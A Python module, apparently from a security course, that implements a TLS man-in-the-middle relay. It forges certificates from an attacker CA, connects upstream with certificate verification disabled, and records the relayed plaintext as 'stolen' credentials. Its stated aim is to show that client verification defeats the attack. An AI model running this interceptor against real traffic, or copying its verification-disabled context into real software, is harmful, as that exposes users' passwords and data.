"""A man in the middle for TLS: it wins only against a client that skips verification.

The interceptor sits where a hostile Wi-Fi or a compromised router would. It *terminates* TLS
with the client, presenting a forged certificate for the same host name (signed by the attacker's
own CA), opens its own TLS connection to the real server, and relays the conversation, reading
every byte in plaintext as it passes::

    >>> with Interceptor(server) as mitm:                        # doctest: +SKIP
    ...     connect(mitm, trust=ca, send="password=hunter2")     # refused: unknown issuer
    ...     insecure_connect_demo(mitm, send="password=hunter2") # the attacker reads it
    >>> mitm.stolen.contains("hunter2")
    True

A verifying client refuses the forged certificate before sending anything: the attacker's CA is
not in its trust store. That single check is what defeats the attack.
"""

from __future__ import annotations

import html
import socket
import ssl
import threading
import time

from .pki import CertificateAuthority
from .servers import ServerConnection, TLSServer
from .wire import CLIENT_TO_SERVER, SERVER_TO_CLIENT, Capture, Chunk

__all__ = ["Interceptor"]


class Interceptor:
    """A TLS-terminating relay in front of ``target`` that records the plaintext it relays.

    ``host``: the name to forge a certificate for (what the victim will ask for).
    ``attacker_ca``: the attacker's own CA (a fresh one by default): it is in nobody's trust store.
    Each connection is relayed as one request and its response (what the course's echo and
    HTTP servers do).
    """

    def __init__(
        self,
        target: object,
        *,
        host: str = "localhost",
        attacker_ca: CertificateAuthority | None = None,
        name: str | None = None,
    ) -> None:
        self.target = target
        self.attacker_ca = attacker_ca or CertificateAuthority("Totally Legit Root CA")
        self.forged = self.attacker_ca.issue_server_cert(host, "127.0.0.1")
        self.host = host
        self._chunks: list[Chunk] = []
        self._lock = threading.Lock()
        self._started = time.monotonic()
        self._front = TLSServer(self.forged, name=name or "interceptor", handler=self._relay)

    # The attacker does not care who the real server is: it connects without verifying.
    @staticmethod
    def _attacker_context() -> ssl.SSLContext:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        return ctx

    def _target_address(self) -> tuple[str, int]:
        target = self.target
        return target.address if hasattr(target, "address") else tuple(target)  # type: ignore[union-attr,return-value]

    def _record(self, connection: int, direction: str, data: bytes) -> None:
        with self._lock:
            self._chunks.append(Chunk(direction, data, time.monotonic() - self._started, connection))

    def _relay(self, conn: ServerConnection) -> None:
        index = next(i for i, r in enumerate(self._front.connections) if r is conn.record)
        request = conn.recv()
        if not request:
            return
        self._record(index, CLIENT_TO_SERVER, request)
        with socket.create_connection(self._target_address(), timeout=5) as raw:
            with self._attacker_context().wrap_socket(raw, server_hostname=self.host) as upstream:
                upstream.sendall(request)
                while True:
                    try:
                        reply = upstream.recv(65536)
                    except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                        break
                    if not reply:
                        break
                    self._record(index, SERVER_TO_CLIENT, reply)
                    conn.sendall(reply)

    # What the attacker got
    @property
    def stolen(self) -> Capture:
        """The plaintext the interceptor read, both directions."""
        with self._lock:
            return Capture(list(self._chunks))

    @property
    def connections(self):
        """How each victim's handshake with the interceptor went (a refusal names the reason)."""
        return self._front.connections

    # Lifecycle, as for servers
    @property
    def address(self) -> tuple[str, int]:
        return self._front.address

    def start(self) -> "Interceptor":
        self._front.start()
        return self

    def stop(self) -> None:
        self._front.stop()

    def __enter__(self) -> "Interceptor":
        return self.start()

    def __exit__(self, *exc_info: object) -> None:
        self.stop()

    def __repr__(self) -> str:
        got = self.stolen
        return (
            f"<Interceptor forging {self.host!r} with {self.attacker_ca.name!r}: "
            f"{len(self.connections)} victim connection(s), {len(got.client_bytes)} bytes of plaintext read>"
        )

    def _repr_html_(self) -> str:
        rows = "".join(
            f"<tr><td>#{i}</td><td>{'handshake accepted: the client trusted the forged certificate' if r.ok else html.escape('refused: ' + (r.failure.what if r.failure else 'failed'))}</td></tr>"
            for i, r in enumerate(self.connections)
        )
        return (
            f"<div><b>Man in the middle</b> forging <code>{html.escape(self.host)}</code> "
            f"with <code>{html.escape(self.attacker_ca.name)}</code><table>{rows}</table>"
            f"<pre>{html.escape(self.stolen.hex(CLIENT_TO_SERVER, limit=128))}</pre></div>"
        )
